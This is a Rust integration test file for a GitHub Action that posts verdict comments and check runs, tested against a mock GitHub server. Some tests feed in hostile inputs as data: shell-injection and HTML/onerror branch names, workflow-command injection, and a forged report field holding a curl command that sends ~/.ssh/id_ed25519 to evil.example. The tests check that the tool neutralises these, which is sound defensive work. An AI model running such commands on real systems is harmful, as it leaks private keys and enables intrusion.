//! `action` from the environment of a workflow, against a GitHub on loopback: what is shown, what is sent, and that no
//! view ever changes the verdict.

#![cfg(target_os = "linux")]

mod support;

use cargo_governed::render::comment::marker::Marker;
use serde_json::Value;
use serde_json::json;
use support::checkout::Scratch;
use support::contract;
use support::forge::Fault;
use support::forge::Forge;
use support::forge::Kept;
use support::governed;
use support::job::AGREES;
use support::job::DRIFTS;
use support::job::Place;
use support::tool;

const US: &str = "github-actions[bot]";

fn comments(forge: &Forge) -> Vec<Kept> {
    forge.state().comments.clone()
}

/// The only comment.
fn comment(forge: &Forge) -> Kept {
    let comments = comments(forge);
    assert_eq!(comments.len(), 1, "{comments:#?}");
    comments[0].clone()
}

fn ours(text: &str, run: u64) -> String {
    format!("{text}\n<sub>x</sub>\n\n<!-- cargo-governed:comment:v1 id=default run={run}.1 -->\n")
}

#[test]
fn drift_refuses_and_is_shown_everywhere() {
    let forge = Forge::new();
    let place = Place::new(DRIFTS).on(&forge).pull_request().with("INPUT_CHECK_RUN", "true");
    let acted = place.with("INPUT_SARIF", "out/x.sarif").act();
    assert_eq!(acted.ran.code, 1, "{:#?}", acted.ran);
    acted.has_no_warning();
    assert!(acted.ran.stdout.contains("::error file=README.md,line=3,"), "{}", acted.ran.stdout);
    assert!(acted.summary.starts_with("## \u{274c} Refused: 1 new deny"), "{}", acted.summary);
    assert!(!acted.summary.contains("<!--"), "a summary has no marker");
    let comment = comment(&forge);
    assert!(comment.body.starts_with("## \u{274c} Refused: 1 new deny \u{b7} msrv-outdated-in-docs at `README.md:3`"));
    assert!(comment.body.contains("-Needs Rust 1.74 or newer.\n+Needs Rust 1.85 or newer."), "{}", comment.body);
    assert_eq!(Marker::of(&comment.body).map(|marker| marker.run), Some((412, 1)));
    let outputs = |name: &str| acted.outputs.get(name).map(String::as_str);
    assert_eq!(outputs("verdict"), Some("refused"));
    assert_eq!((outputs("findings"), outputs("deny"), outputs("warn")), (Some("1"), Some("1"), Some("0")));
    assert_eq!(outputs("sarif-file"), Some("out/x.sarif"));
    assert!(outputs("comment-url").is_some_and(|url| url.ends_with(&comment.id.to_string())));
    let checks = forge.state().checks.clone();
    assert_eq!(checks[0]["conclusion"], "failure");
    assert_eq!(checks[0]["output"]["annotations"][0]["path"], "README.md");
}

#[test]
fn the_mended_push_updates_the_same_comment_and_the_next_run_sends_nothing() {
    let forge = Forge::new();
    let place = Place::new(DRIFTS).on(&forge).pull_request();
    assert_eq!(place.act().ran.code, 1);
    let first = comment(&forge);
    place.scratch.write("README.md", AGREES);
    place.scratch.commit("three");
    let base = place.scratch.git(&["rev-parse", "HEAD~2"]).trim().to_owned();
    let mut payload = place.pull("o/r", "main");
    payload["pull_request"]["base"]["sha"] = json!(base);
    let place = place.event("pull_request", &payload).with("GITHUB_RUN_ID", "413");
    let acted = place.act();
    assert_eq!(acted.ran.code, 0, "{:#?}", acted.ran);
    let second = comment(&forge);
    assert_eq!(second.id, first.id);
    assert!(second.body.starts_with("## \u{2705} Accepted"), "{}", second.body);
    assert!(second.body.contains("1 went"), "{}", second.body);
    let sent = forge.asked("PATCH").len();
    let acted = place.with("GITHUB_RUN_ID", "414").act();
    assert_eq!(acted.ran.code, 0);
    assert!(acted.ran.stdout.contains("it says the same already"), "{}", acted.ran.stdout);
    assert_eq!(forge.asked("PATCH").len(), sent, "what is unchanged is not sent");
}

#[test]
fn a_quiet_pull_request_gets_no_comment_unless_it_is_asked_for() {
    let forge = Forge::new();
    let place = Place::new(AGREES).on(&forge).pull_request();
    assert_eq!(place.act().ran.code, 0);
    assert!(comments(&forge).is_empty());
    let place = place.with("INPUT_COMMENT", "always");
    assert_eq!(place.act().ran.code, 0);
    let body = comment(&forge).body;
    assert_eq!(body.lines().filter(|line| !line.is_empty() && !line.starts_with("<!--")).count(), 2, "{body}");
    let asked = forge.state().requests.len();
    assert_eq!(place.with("INPUT_COMMENT", "never").act().ran.code, 0);
    assert_eq!(forge.state().requests.len(), asked, "never asks nothing");
}

#[test]
fn a_fork_with_a_token_that_only_reads_is_refused_by_its_drift_and_by_nothing_else() {
    for (readme, code) in [(DRIFTS, 1), (AGREES, 0)] {
        let forge = Forge::new();
        forge.fail("POST", "/comments", Fault::Denied);
        let place = Place::new(readme).on(&forge).with("INPUT_COMMENT", "always");
        let payload = place.pull("stranger/r", "main");
        let acted = place.event("pull_request", &payload).act();
        assert_eq!(acted.ran.code, code, "{:#?}", acted.ran);
        let warning = acted.warning("comment-not-posted");
        assert!(warning.contains("comes from a fork") && warning.contains("the verdict is unchanged"), "{warning}");
        assert!(!acted.summary.is_empty());
    }
}

#[test]
fn dependabot_has_a_token_that_only_reads_too() {
    let forge = Forge::new();
    forge.fail("POST", "/comments", Fault::Denied);
    let acted = Place::new(DRIFTS).on(&forge).with("GITHUB_ACTOR", "dependabot[bot]").pull_request().act();
    assert_eq!(acted.ran.code, 1);
    assert!(acted.warning("comment-not-posted").contains("Dependabot"), "{:#?}", acted.ran);
}

#[test]
fn a_missing_permission_is_named_with_the_lines_to_paste() {
    let forge = Forge::new();
    forge.fail("POST", "/comments", Fault::Denied);
    forge.fail("POST", "/check-runs", Fault::Denied);
    let acted = Place::new(DRIFTS).on(&forge).pull_request().with("INPUT_CHECK_RUN", "true").act();
    assert_eq!(acted.ran.code, 1);
    let warning = acted.warning("comment-not-posted");
    for part in ["403", "needs issues=write; pull_requests=write", "request id ABCD:1"] {
        assert!(warning.contains(part), "{warning}");
    }
    assert!(warning.contains("%0Apermissions:%0A  contents: read%0A  pull-requests: write"), "{warning}");
    assert!(acted.warning("check-run-not-made").contains("%0A  checks: write"));
    let acted = Place::new(AGREES).pull_request().with("INPUT_TOKEN", "").act();
    assert_eq!(acted.ran.code, 0);
    assert!(acted.warning("comment-not-posted").contains("token is empty"));
}

#[test]
fn a_limit_is_waited_for_and_a_long_one_is_told() {
    for fault in [Fault::Limited(1), Fault::Secondary(1)] {
        let forge = Forge::new();
        forge.fail("POST", "/comments", fault);
        let acted = Place::new(DRIFTS).on(&forge).pull_request().act();
        assert_eq!(acted.ran.code, 1);
        acted.has_no_warning();
        assert_eq!(forge.asked("POST").len(), 2, "a limit means that nothing was done");
        assert_eq!(comments(&forge).len(), 1);
    }
    let forge = Forge::new();
    forge.fail("POST", "/comments", Fault::Limited(3_600));
    let acted = Place::new(DRIFTS).on(&forge).pull_request().act();
    assert_eq!(acted.ran.code, 1);
    assert!(acted.warning("comment-not-posted").contains("429 Too many requests"));
    assert_eq!(forge.asked("POST").len(), 1);
}

#[test]
fn what_was_stored_before_a_502_is_found_and_not_sent_again() {
    let forge = Forge::new();
    forge.fail("POST", "/comments", Fault::StoredThenBroken);
    forge.fail("POST", "/check-runs", Fault::StoredThenBroken);
    let acted = Place::new(DRIFTS).on(&forge).pull_request().with("INPUT_CHECK_RUN", "true").act();
    assert_eq!(acted.ran.code, 1);
    acted.has_no_warning();
    assert_eq!(comments(&forge).len(), 1);
    assert_eq!(forge.state().checks.len(), 1);
    assert_eq!(forge.asked("POST").len(), 2);
}

#[test]
fn a_502_before_anything_was_stored_is_sent_once_more() {
    let forge = Forge::new();
    forge.fail("POST", "/comments", Fault::Broken);
    let acted = Place::new(DRIFTS).on(&forge).pull_request().act();
    acted.has_no_warning();
    assert_eq!((comments(&forge).len(), forge.asked("POST").len()), (1, 2));
    let forge = Forge::new();
    for _ in 0..2 {
        forge.fail("POST", "/comments", Fault::Broken);
    }
    let acted = Place::new(DRIFTS).on(&forge).pull_request().act();
    assert_eq!(acted.ran.code, 1);
    let warning = acted.warning("comment-not-posted");
    assert!(warning.contains("502 <html> <h1>502 Bad Gateway</h1> [31m"), "a page is one line: {warning}");
}

#[test]
fn an_answer_without_its_fields_is_still_an_answer() {
    let forge = Forge::new();
    forge.fail("POST", "/comments", Fault::Terse);
    let acted = Place::new(DRIFTS).on(&forge).pull_request().act();
    acted.has_no_warning();
    assert_eq!((comments(&forge).len(), forge.asked("POST").len()), (1, 1));
}

#[test]
fn two_jobs_at_once_leave_one_comment_with_the_newest_text() {
    let forge = Forge::new();
    forge.fail("POST", "/comments", Fault::Before(ours("of the other job", 411)));
    let acted = Place::new(DRIFTS).on(&forge).pull_request().act();
    acted.has_no_warning();
    let kept = comment(&forge);
    assert_eq!(kept.id, 101, "the first one stays");
    assert!(kept.body.contains("msrv-outdated-in-docs"), "{}", kept.body);
    // The other job was the newer one: its text stays.
    let forge = Forge::new();
    forge.fail("POST", "/comments", Fault::Before(ours("of the other job", 999)));
    Place::new(DRIFTS).on(&forge).pull_request().act().has_no_warning();
    assert!(comment(&forge).body.starts_with("of the other job"));
}

#[test]
fn jobs_that_really_run_at_once_leave_one_comment() {
    let forge = Forge::new();
    let places: Vec<Place> = (0..4).map(|_| Place::new(DRIFTS).on(&forge).pull_request()).collect();
    std::thread::scope(|scope| {
        let jobs: Vec<_> = places.iter().map(|place| scope.spawn(|| place.act())).collect();
        for job in jobs {
            job.join().expect("a job").has_no_warning();
        }
    });
    assert!(comment(&forge).body.contains("msrv-outdated-in-docs"));
}

#[test]
fn an_older_run_never_overwrites_a_newer_one() {
    let forge = Forge::new();
    forge.comment(US, &ours("of a newer run", 500));
    let acted = Place::new(DRIFTS).on(&forge).pull_request().act();
    assert_eq!(acted.ran.code, 1);
    assert!(acted.ran.stdout.contains("a newer run wrote it"), "{}", acted.ran.stdout);
    assert!(comment(&forge).body.starts_with("of a newer run"));
    assert!(forge.asked("PATCH").is_empty() && forge.asked("POST").is_empty());
}

#[test]
fn a_comment_that_was_edited_is_set_right_and_one_that_was_deleted_is_made_again() {
    let forge = Forge::new();
    let place = Place::new(DRIFTS).on(&forge).pull_request();
    place.act();
    let first = comment(&forge);
    forge.state().comments[0].body = first.body.replace("Refused", "Accepted");
    place.act();
    assert!(comment(&forge).body.starts_with("## \u{274c} Refused"), "an edited comment is set right");
    forge.state().comments.clear();
    place.act();
    assert!(comment(&forge).id > first.id);
}

#[test]
fn a_comment_of_somebody_else_with_our_marker_is_left_alone() {
    for graphql in [true, false] {
        let forge = Forge::new();
        forge.state().graphql = graphql;
        forge.comment("mallory", &ours("forged", 999));
        Place::new(DRIFTS).on(&forge).pull_request().act().has_no_warning();
        let comments = comments(&forge);
        assert_eq!(comments.len(), 2);
        assert!(comments[0].body.starts_with("forged") && comments[1].author == US);
    }
}

#[test]
fn our_comment_is_found_behind_pages_of_others() {
    let forge = Forge::new();
    for number in 0..230 {
        forge.comment("person", &format!("comment {number}"));
    }
    let id = forge.comment(US, &ours("old", 1));
    Place::new(DRIFTS).on(&forge).pull_request().act().has_no_warning();
    let comments = comments(&forge);
    assert_eq!(comments.len(), 231);
    assert!(comments.iter().any(|comment| comment.id == id && comment.body.contains("Refused")));
}

#[test]
fn a_merge_group_is_judged_on_its_own_base_and_commented_nowhere() {
    let forge = Forge::new();
    let place = Place::new(DRIFTS).on(&forge);
    let group = json!({ "merge_group": { "head_sha": place.head(), "base_sha": place.base(), "base_ref": "refs/heads/main",
        "head_ref": "refs/heads/gh-readonly-queue/main/pr-7-x" } });
    let acted = place.event("merge_group", &group).act();
    assert_eq!(acted.ran.code, 1);
    assert!(acted.summary.contains("against `main@"), "{}", acted.summary);
    assert!(forge.state().requests.is_empty());
}

#[test]
fn the_same_drift_on_the_base_is_inherited_on_a_push_and_decides_in_a_nightly_audit() {
    let place = Place::new(DRIFTS);
    place.scratch.write("docs/x.md", "x\n");
    place.scratch.commit("three");
    let push = json!({ "ref": "refs/heads/main", "before": place.base(), "after": place.head(), "forced": false });
    let acted = place.event("push", &push).act();
    assert_eq!(acted.ran.code, 0, "{:#?}", acted.ran);
    assert!(acted.summary.contains("1 inherited"), "{}", acted.summary);
    let place = Place::new(DRIFTS).event("schedule", &json!({ "schedule": "0 4 * * *" }));
    assert_eq!(place.act().ran.code, 1);
    let place = Place::new(DRIFTS).event("workflow_dispatch", &json!({})).with("INPUT_BASE_REF", "HEAD");
    assert_eq!(place.act().ran.code, 0, "a base that is asked for counts");
    let place = Place::new(DRIFTS);
    let tag = json!({ "ref": "refs/tags/v1", "before": "0".repeat(40), "after": place.head() });
    assert_eq!(place.event("push", &tag).act().ran.code, 1);
    let place = Place::new(DRIFTS).pull_request().with("INPUT_BASE_REF", "none").with("INPUT_COMMENT", "never");
    assert_eq!(place.act().ran.code, 1);
}

#[test]
fn the_merge_of_a_pull_request_is_compared_with_the_base_that_it_joins() {
    let place = Place::new(AGREES);
    let old = place.head();
    // The base moves on after the event: its drift is not that of the pull request.
    place.scratch.git(&["checkout", "-q", "-b", "feature"]);
    place.scratch.write("docs/x.md", "x\n");
    place.scratch.commit("three");
    let head = place.head();
    place.scratch.git(&["checkout", "-q", "main"]);
    place.scratch.write("README.md", DRIFTS);
    place.scratch.commit("drift of the base");
    place.scratch.git(&["merge", "-q", "--no-ff", "-m", "merge", "feature"]);
    let mut payload = place.pull("o/r", "main");
    payload["pull_request"]["head"]["sha"] = json!(head);
    payload["pull_request"]["base"]["sha"] = json!(old);
    let acted = place.event("pull_request", &payload).with("INPUT_COMMENT", "never").act();
    assert_eq!(acted.ran.code, 0, "{:#?}", acted.ran);
    assert!(acted.summary.contains("1 inherited"), "{}", acted.summary);
}

#[test]
fn what_the_event_is_not_about_is_not_judged() {
    // GitHub checks the base out for this event: to accept it would say nothing of the pull request.
    let place = Place::new(AGREES);
    let (mut payload, head) = (place.pull("o/r", "main"), place.head());
    payload["pull_request"]["head"]["sha"] = json!("a".repeat(40));
    for (event, sha, code) in
        [("pull_request_target", &head, 3), ("pull_request", &place.base(), 3), ("pull_request", &head, 0)]
    {
        let acted = Place::new(AGREES).event(event, &payload).with("GITHUB_SHA", sha).with("INPUT_BASE_REF", "HEAD~1");
        let acted = acted.with("INPUT_COMMENT", "never").act();
        assert_eq!(acted.ran.code, code, "{event}: {:#?}", acted.ran);
        assert_eq!(acted.ran.stderr.contains("which the event is about"), code == 3, "{}", acted.ran.stderr);
    }
}

#[test]
fn a_shallow_clone_says_which_line_is_missing_and_is_unproven() {
    let place = Place::new(AGREES);
    let base = place.base();
    let clone = Scratch::new();
    let from = format!("file://{}", place.scratch.path().display());
    clone.git(&["clone", "-q", "--depth", "1", &from, "."]);
    let shallow = Place { scratch: clone, variables: place.variables.clone() };
    let mut payload = place.pull("o/r", "main");
    payload["pull_request"]["base"]["sha"] = json!(base);
    let acted = shallow.event("pull_request", &payload).with("INPUT_COMMENT", "never").act();
    assert_eq!(acted.ran.code, 3, "{:#?}", acted.ran);
    let said = &acted.ran.stderr;
    for part in ["--> .github/workflows/ci.yml:6", "the clone is shallow", "fetch-depth: 0", base.as_str()] {
        assert!(said.contains(part), "{said}");
    }
    assert!(acted.ran.stdout.contains("::error title=cargo governed%3A base-missing::"), "{}", acted.ran.stdout);
    assert!(acted.summary.starts_with("## \u{26a0}\u{fe0f} Unproven"), "{}", acted.summary);
    assert_eq!(acted.outputs.get("verdict").map(String::as_str), Some("unproven"));
}

#[test]
fn a_skipped_job_is_never_green() {
    let needs =
        |result: &str| format!("{{\"test\": {{\"result\": \"success\"}}, \"fuzz\": {{\"result\": \"{result}\"}}}}");
    let place = |result: &str| Place::new(AGREES).event("push", &json!({})).with("INPUT_NEEDS", &needs(result));
    for (result, code, verdict) in [("success", 0, "accepted"), ("skipped", 3, "unproven"), ("failure", 1, "refused")] {
        let acted = place(result).act();
        assert_eq!(acted.ran.code, code, "{result}: {:#?}", acted.ran);
        assert_eq!(acted.outputs.get("verdict").map(String::as_str), Some(verdict));
        assert_eq!(acted.ran.stdout.contains("::error title=job-not-passed::the job fuzz"), code != 0);
        let passed = if code == 0 { 2 } else { 1 };
        let last = format!("{verdict}: check accepted, no findings; {passed} of 2 other jobs passed");
        assert_eq!(acted.ran.stdout.lines().last(), Some(last.as_str()), "the verdict of the job is the last word");
    }
    assert!(place("skipped").act().summary.contains("`fuzz` | \u{26a0}\u{fe0f} skipped: proves nothing"));
    let acted = Place::new(AGREES).event("push", &json!({})).with("INPUT_NEEDS", "{}").act();
    assert_eq!(acted.ran.code, 2, "no job is no proof");
}

#[test]
fn an_enterprise_is_reached_below_its_own_path_and_linked_on_its_own_host() {
    let forge = Forge::enterprise();
    forge.comment(US, &ours("old", 1));
    let place = Place::new(DRIFTS).on(&forge).with("GITHUB_SERVER_URL", "https://ghe.example").pull_request();
    place.act().has_no_warning();
    let body = comment(&forge).body;
    assert!(body.contains("(https://ghe.example/o/r/blob/"), "{body}");
    assert!(forge.state().requests.iter().any(|request| request.path == "/api/graphql"));
    // The address in clear text is refused before the token is sent anywhere.
    let acted = Place::new(DRIFTS).pull_request().with("INPUT_GITHUB_API_URL", "http://ghe.example/api/v3").act();
    assert_eq!(acted.ran.code, 1);
    assert!(acted.warning("comment-not-posted").contains("clear text"));
}

#[test]
fn nobody_there_is_a_warning() {
    let acted = Place::new(DRIFTS).pull_request().with("GITHUB_API_URL", "http://127.0.0.1:1").act();
    assert_eq!(acted.ran.code, 1);
    assert!(acted.warning("comment-not-posted").contains("refused"), "{:#?}", acted.ran);
}

/// Documents with many findings, each on its own line.
fn much_drift(files: usize, lines: usize) -> Place {
    let place = Place::new(AGREES);
    let base = place.head();
    for file in 0..files {
        let text: String = (0..lines)
            .map(|line| format!("[{}]({file}-{line}-{}.md) needs Rust 1.{line}\n\n", "x".repeat(200), "y".repeat(200)))
            .collect();
        // Dashes are three signs each in what is hidden.
        place.scratch.write(&format!("docs/{}{file}.md", "-".repeat(200)), format!("# {file}\n\n{text}"));
    }
    place.scratch.commit("three");
    let mut payload = place.pull("o/r", "main");
    payload["pull_request"]["base"]["sha"] = json!(base);
    place.event("pull_request", &payload)
}

#[test]
fn much_drift_keeps_to_every_limit_of_github() {
    let forge = Forge::new();
    let place = much_drift(60, 12).on(&forge).with("INPUT_CHECK_RUN", "true").with("INPUT_FAIL_ON", "warn");
    let acted = place.act();
    assert_eq!(acted.ran.code, 1, "{}", acted.ran.stderr);
    acted.has_no_warning();
    // More than ten annotations of a kind are dropped without a word; the log says what has none.
    for kind in ["error", "warning", "notice"] {
        let begin = format!("::{kind} file=");
        assert!(acted.ran.stdout.lines().filter(|line| line.starts_with(&begin)).count() <= 10);
    }
    assert!(acted.ran.stdout.contains("above without an annotation"), "{}", acted.ran.stdout);
    let findings: usize = acted.outputs["findings"].parse().expect("a number");
    assert!(findings > 100, "{findings}");
    let body = comment(&forge).body;
    assert!(body.len() <= 60_000 && body.contains("Left out here"), "{}", body.len());
    assert!(acted.summary.len() <= 1_000_000 && acted.summary.len() > body.len());
    let annotations = forge.state().checks[0]["output"]["annotations"].as_array().map(Vec::len);
    assert_eq!(annotations, Some(findings.min(500)), "all are appended, fifty a request");
}

#[test]
fn a_summary_too_long_is_cut_and_says_so() {
    let whole = much_drift(20, 10).act();
    assert!(!whole.summary.contains("Left out here") && whole.summary.len() > 20_000, "{}", whole.summary.len());
    // What stands there already counts: all of a step's summary is dropped by GitHub above its limit.
    let place = much_drift(20, 10);
    let filled = format!("{}\n", "x".repeat(980_000));
    std::fs::write(place.scratch.at(".git/summary"), &filled).expect("a writable folder");
    let acted = place.with("INPUT_COMMENT", "never").act();
    acted.has_no_warning();
    let ours = acted.summary.strip_prefix(&filled).expect("what others wrote stays");
    assert!(acted.summary.len() <= 1_000_000 && ours.len() > 10_000, "{}", ours.len());
    assert!(ours.starts_with("## ") && ours.contains("Left out here"), "{ours}");
}

#[test]
fn a_summary_that_others_filled_is_left_as_it_is() {
    let place = Place::new(DRIFTS).event("push", &json!({}));
    let filled = "x".repeat(999_990);
    std::fs::write(place.scratch.at(".git/summary"), &filled).expect("a writable folder");
    let acted = place.act();
    assert_eq!(acted.ran.code, 1);
    assert!(acted.warning("summary-not-written").contains("no room"));
    assert_eq!(acted.summary, filled);
}

#[test]
fn hostile_titles_branches_and_jobs_are_text() {
    let forge = Forge::new();
    let branch = "x;$(touch\u{202e}x)`|<img src=x onerror=alert(1)>@org/team::error::y";
    let place = Place::new(DRIFTS).on(&forge);
    let payload = place.pull("o/r", branch);
    let needs = json!({ branch: { "result": format!("success\n::stop-commands::{branch}") } }).to_string();
    let acted = place.event("pull_request", &payload).with("INPUT_NEEDS", &needs).act();
    assert_eq!(acted.ran.code, 1);
    assert!(!acted.ran.stdout.lines().any(|line| line.trim_start().starts_with("::stop-commands")));
    for text in [&comment(&forge).body, &acted.summary] {
        assert!(!text.contains('\u{202e}'), "{text}");
        for line in text.lines().filter(|line| line.contains("onerror")) {
            let outside = line.split('`').step_by(2).collect::<String>();
            assert!(!outside.contains("<img") && !outside.contains("@org"), "{line}");
        }
    }
}

#[test]
fn a_policy_that_can_not_be_read_is_no_verdict_and_keeps_its_exit_code() {
    let forge = Forge::new();
    let place = Place::new(AGREES).on(&forge);
    place.scratch.write("governed.toml", "[check]\nfail-onn = \"deny\"\n");
    place.scratch.commit("three");
    let acted = place.pull_request().act();
    assert_eq!(acted.ran.code, 2, "{:#?}", acted.ran);
    assert!(acted.summary.contains("Unproven") && acted.summary.contains("fail-onn"), "{}", acted.summary);
    assert!(comment(&forge).body.contains("fail-onn"));
    let acted = Place::new(AGREES).with("INPUT_FAIL_ON", "never").act();
    assert_eq!(acted.ran.code, 2);
    assert!(acted.ran.stderr.contains("use one of: deny, warn"), "{}", acted.ran.stderr);
}

/// The event of a run that follows the one of a fork.
fn followed(place: Place, forge: &Forge, branch: &str) -> Place {
    let head = place.head();
    let run = json!({ "workflow_run": { "event": "pull_request", "head_sha": head, "head_branch": branch, "id": 400,
        "run_attempt": 1, "pull_requests": [{ "number": 666 }],
        "head_repository": { "full_name": "stranger/r", "owner": { "login": "stranger" } } } });
    place.on(forge).event("workflow_run", &run).with("INPUT_REPORT", "report.json")
}

#[test]
fn the_second_workflow_of_a_fork_tells_from_data_and_finds_the_number_by_the_head() {
    let forge = Forge::new();
    let place = Place::new(DRIFTS).pull_request().with("INPUT_COMMENT", "never").with("INPUT_REPORT", "report.json");
    assert_eq!(place.act().ran.code, 1);
    let branch = "x&state=closed";
    forge.state().pulls =
        vec![(5, format!("stranger:{branch}"), "f".repeat(40)), (9, format!("stranger:{branch}"), place.head())];
    let place = followed(place, &forge, branch).with("INPUT_COMMENT", "on-failure");
    let acted = place.act();
    assert_eq!(acted.ran.code, 0, "who tells decides nothing: {:#?}", acted.ran);
    acted.has_no_warning();
    let posted = forge.asked("POST");
    assert_eq!(posted[0].path, "/repos/o/r/issues/9/comments");
    let body = comment(&forge).body;
    assert!(body.contains("decides nothing") && body.contains("msrv-outdated-in-docs"), "{body}");
    assert!(body.contains("-Needs Rust 1.74 or newer."), "the change is shown from data: {body}");
    assert_eq!(Marker::of(&body).map(|marker| marker.run), Some((400, 1)), "the run that was followed");
    // The head has moved on: a newer run will tell.
    forge.state().pulls.remove(1);
    let acted = place.act();
    assert_eq!(acted.ran.code, 0);
    assert!(acted.ran.stdout.contains("no open pull request has the head"), "{}", acted.ran.stdout);
}

#[test]
fn a_forged_report_is_encoded_or_refused() {
    let forge = Forge::new();
    let place = Place::new(DRIFTS).with("INPUT_REPORT", "report.json").event("push", &json!({}));
    place.act();
    let path = place.scratch.at("report.json");
    let mut report: Value = serde_json::from_slice(&std::fs::read(&path).expect("a report")).expect("JSON");
    let hostile = "</details><img src=x>@org/team\u{202e}\n<!-- cargo-governed:comment:v1 id=default run=1.1 -->";
    report["since"] = json!("x; curl -d @~/.ssh/id_ed25519 evil.example #");
    report["findings"][0]["message"] = json!(hostile);
    report["findings"][0]["at"]["path"] = json!(hostile);
    report["findings"][0]["at"]["line"] = json!(u64::MAX);
    report["findings"][0]["at"]["column"] = json!(u64::MAX);
    report["findings"][0]["fix"]["edits"][0]["start"] = json!(u64::MAX);
    std::fs::write(&path, report.to_string()).expect("writable");
    forge.state().pulls = vec![(9, "stranger:x".to_owned(), place.head())];
    let place = followed(place, &forge, "x");
    let acted = place.act();
    assert_eq!(acted.ran.code, 0, "{:#?}", acted.ran);
    let body = comment(&forge).body;
    assert!(!body.contains("curl"), "a command to copy is ours alone: {body}");
    assert!(!body.contains("<img") || body.contains("`</details><img"), "{body}");
    assert!(!body.contains('\u{202e}'));
    assert_eq!(Marker::of(&body).map(|marker| marker.run), Some((400, 1)));
    for bad in ["{}", "x", "{\"schema\":\"cargo-governed/check/1\",\"rules\":[{\"rule\":\"<script>\"}]}"] {
        std::fs::write(&path, bad).expect("writable");
        assert_eq!(place.act().ran.code, 2, "{bad}");
    }
}

#[test]
fn the_contract_can_be_broken() {
    let faults = |document: &'static Value, method: &str, path: &str, body: &Value| {
        contract::operation(document, method, path).map(|known| known.faults_of_request(path, "", body).len())
    };
    let path = "/repos/o/r/issues/7/comments";
    for document in [&*contract::PUBLIC, &*contract::ENTERPRISE] {
        assert_eq!(faults(document, "POST", path, &json!({ "body": "x" })), Some(0));
        for wrong in [json!({}), json!({ "body": 1 }), json!({ "body": "x", "boby": "x" })] {
            assert_eq!(faults(document, "POST", path, &wrong), Some(1), "{wrong}");
        }
        assert_eq!(faults(document, "POST", "/repos/o/r/issues/comments/7", &json!({})), None, "octocrab's own verb");
        assert_eq!(faults(document, "PATCH", "/repos/o/r/git/refs/heads/a/b", &json!({ "sha": "x" })), Some(0));
        assert_eq!(faults(document, "PATCH", "/repos/o/r/git/refs/heads/a/b", &json!({})), Some(1));
    }
    let sent = std::panic::catch_unwind(|| contract::event("push", &json!({ "refs": "refs/heads/main" })));
    assert!(sent.is_err(), "GitHub sends no such thing");
}

#[test]
fn a_second_job_gates_on_the_proof_of_the_first() {
    let forge = Forge::new();
    let scratch = governed::place(&governed::step("yes", "echo yes", ""), &[]);
    scratch.write("docs/two.md", "two\n");
    scratch.commit("two");
    let place = Place { scratch, variables: Place::new(AGREES).variables }.on(&forge).pull_request();
    let act = |place: &Place| place.acted(governed::command(&place.scratch, &["action"]));
    let place = place.with("INPUT_COMMAND", "run").with("INPUT_COMMENT", "never");
    let ran = act(&place);
    assert_eq!(ran.ran.code, 0, "{:#?}", ran.ran);
    let last = ran.ran.stdout.lines().last().unwrap_or_default();
    assert!(last.starts_with("accepted: check accepted, no") && last.ends_with(" passed"), "{last}");
    let place = place.with("INPUT_NEEDS", "{\"lint\": {\"result\": \"failure\"}}");
    let refused = act(&place);
    let last = refused.ran.stdout.lines().last().unwrap_or_default();
    assert!(
        refused.ran.code == 1 && last.starts_with("refused: ") && last.ends_with("0 of 1 other job passed"),
        "{last}"
    );
    let place = place.with("INPUT_NEEDS", "");
    let outside = tempfile::tempdir().expect("a scratch folder");
    let proof = outside.path().join("proof.intoto.jsonl");
    std::fs::copy(&ran.outputs["proof-path"], &proof).expect("a proof");
    let place = place.with("INPUT_COMMAND", "gate").with("INPUT_COMMENT", "always");
    assert_eq!(act(&place).ran.code, 2, "a gate without a proof is a mistake");
    let place = place.with("INPUT_PROOF", &proof.to_string_lossy());
    let gated = act(&place);
    assert_eq!(gated.ran.code, 0, "{:#?}", gated.ran);
    assert!(gated.summary.contains("Accepted") && gated.summary.contains("of the proof hold"), "{}", gated.summary);
    let needs = "{\"proven\": {\"result\": \"skipped\"}}";
    let place = place.with("INPUT_NEEDS", needs);
    assert_eq!(act(&place).ran.code, 3, "a job that was skipped proves nothing");
    // The tree is another one than the proof speaks of.
    place.scratch.write("docs/two.md", "three\n");
    place.scratch.commit("three");
    let refused = act(&place);
    assert_eq!(refused.ran.code, 1, "{:#?}", refused.ran);
    let body = comment(&forge).body;
    assert!(body.starts_with("## \u{274c} Refused") && body.contains("`other-commit`"), "{body}");
    assert!(body.contains("cargo governed gate merge --base"), "{body}");
    assert!(refused.ran.stdout.contains("::error title=other-commit::"), "{}", refused.ran.stdout);
}

#[test]
fn a_stranger_s_steps_are_not_run_where_the_token_may_write() {
    let place = Place::new(AGREES).with("INPUT_COMMAND", "run").with("INPUT_COMMENT", "never");
    let payload = place.pull("stranger/r", "main");
    let acted = place.event("pull_request_target", &payload).act();
    assert_eq!(acted.ran.code, 2, "{:#?}", acted.ran);
    assert!(acted.ran.stderr.contains("could not run the steps of a fork"), "{}", acted.ran.stderr);
}

#[test]
fn a_dry_run_sends_nothing_but_questions() {
    let forge = Forge::new();
    let place = Place::new(DRIFTS).on(&forge).pull_request().with("INPUT_DRY_RUN", "true");
    let acted = place.with("INPUT_CHECK_RUN", "true").act();
    assert_eq!(acted.ran.code, 1);
    assert!(acted.ran.stdout.contains("dry run: Create on pull request 7"), "{}", acted.ran.stdout);
    assert!(acted.ran.stdout.contains("dry run: check run failure on "), "{}", acted.ran.stdout);
    assert!(forge.state().requests.iter().all(|request| request.method == "GET"));
}

#[test]
fn a_run_is_shown_with_its_steps_and_hands_over_its_proof() {
    let forge = Forge::new();
    let steps = governed::step("yes", "echo yes", "") + &governed::step("no", "exit 3", "");
    let scratch = governed::place(&steps, &[]);
    scratch.write("docs/two.md", "two\n");
    scratch.commit("two");
    let place = Place { scratch, variables: Place::new(AGREES).variables }.on(&forge).pull_request();
    let place = place.with("INPUT_COMMAND", "run");
    let acted = place.acted(governed::command(&place.scratch, &["action"]));
    assert_eq!(acted.ran.code, 1, "{:#?}", acted.ran);
    let body = comment(&forge).body;
    assert!(body.contains("1 of 2 steps did not pass") && body.contains("| `no` | \u{274c} failed: exit 3"), "{body}");
    let output = |name: &str| acted.outputs[name].clone();
    assert!(output("proof-path").ends_with("target/governed/proof.intoto.jsonl"));
    assert!(output("proof-digest").starts_with("sha256:"));
    assert!(std::path::Path::new(&output("report-html")).is_file());
    assert_eq!(output("verdict"), "refused");
}

/// The difference of the pull request as GitHub gives it.
fn shown(place: &Place, forge: &Forge, name: &str) {
    let patch = place.scratch.git(&["diff", "-U3", "HEAD~1", "HEAD", "--", name]);
